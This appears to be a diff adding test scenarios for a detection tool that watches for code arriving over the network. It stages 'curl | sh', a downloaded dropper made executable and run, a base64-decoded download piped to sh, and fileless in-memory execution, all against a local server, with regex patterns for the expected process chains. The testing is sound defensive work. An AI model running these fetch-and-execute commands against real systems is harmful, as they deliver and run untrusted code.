@@ -1,0 +1,41 @@
+import type { Scenario } from "../scenario.ts";
+
+/** Code that came over the network. */
+export const downloads: readonly Scenario[] = [
+  {
+    name: "curl | sh",
+    async run(stage) {
+      stage.file("i.sh", `${stage.payload}\n`);
+      await stage.shell(`curl -s ${stage.served("i.sh")} | sh; : operator`);
+    },
+    chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ sh$/, /curl -s .*\/curl-sh$/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000$/],
+  },
+  {
+    name: "a dropped binary, run by another",
+    async run(stage) {
+      await stage.shell(`cp /usr/bin/curl served; : prepare`);
+      await stage.shell(`curl -s ${stage.served("served")} -o k; chmod +x k; : dropper`);
+      await stage.shell(`./k -s ${stage.url}; : runner`);
+    },
+    chain: [/: dropper/, /curl -s .*\/served -o k/, /\.\/k -s/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000$/],
+  },
+  {
+    name: "a decoded download",
+    async run(stage) {
+      await stage.shell(`echo '${stage.payload}' | base64 -w0 > served; : prepare`);
+      await stage.shell(`curl -s ${stage.served("served")} | base64 -d > x; sh x; : operator`);
+    },
+    chain: [/: operator/, /base64 -d/, /^\d+ sh x$/, /curl -s/],
+    beside: [/curl -s .*\/served/],
+  },
+  {
+    name: "execution from memory",
+    async run(stage) {
+      await stage.shell("cp /usr/bin/curl served; : prepare");
+      await stage.shell(`${stage.actors} fileless 8000 /file${stage.path("served")} ${stage.url}; : loader`);
+    },
+    chain: [/: loader/, /k -s/],
+  },
+];
